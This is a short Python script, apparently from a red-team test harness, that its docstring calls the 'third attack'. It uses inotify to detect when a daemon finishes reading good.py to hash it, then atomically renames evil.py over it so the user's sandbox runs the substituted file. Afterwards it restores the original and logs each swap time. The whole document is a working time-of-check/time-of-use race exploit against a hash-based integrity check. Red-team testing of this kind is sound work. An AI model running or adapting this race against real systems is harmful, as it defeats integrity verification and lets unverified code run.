#!/usr/bin/env python3
"""The red team's third attack: in a box sharing the working directory with
the user's, watch good.py with inotify and, the moment the daemon has read
it to hash it (its close), rename evil.py over it; put good.py back once the
user's box has run. Writes swaps.json: the time of each swap.

Usage: swapper.py ROUNDS
"""
import ctypes
import json
import os
import shutil
import struct
import sys
import time

rounds = int(sys.argv[1])
shutil.copyfile("good.py", ".good-backup")
libc = ctypes.CDLL(None, use_errno=True)
IN_CLOSE_NOWRITE = 0x10
fd = libc.inotify_init()
if fd < 0 or libc.inotify_add_watch(fd, b".", IN_CLOSE_NOWRITE) < 0:
    raise SystemExit("inotify: " + os.strerror(ctypes.get_errno()))
swaps = []
open("armed", "w").close()


def closed_names():
    buf = os.read(fd, 4096)
    at = 0
    while at < len(buf):
        _wd, _mask, _cookie, n = struct.unpack_from("iIII", buf, at)
        name = buf[at + 16:at + 16 + n].rstrip(b"\0").decode()
        at += 16 + n
        yield name


while len(swaps) < rounds:
    if "good.py" not in list(closed_names()):
        continue
    # The daemon has just hashed good.py: swap it now.
    shutil.copyfile("evil.py", ".evil-next")
    os.rename(".evil-next", "good.py")
    swaps.append(time.time())
    k = len(swaps) - 1
    while not os.path.exists(f"out-{k}"):
        time.sleep(0.005)
    shutil.copyfile(".good-backup", ".good-next")
    os.rename(".good-next", "good.py")
    # Drain what the put-back caused, then say this round is over.
    os.set_blocking(fd, False)
    try:
        list(closed_names())
    except BlockingIOError:
        pass
    os.set_blocking(fd, True)
    with open("swaps.json", "w") as f:
        json.dump(swaps, f)
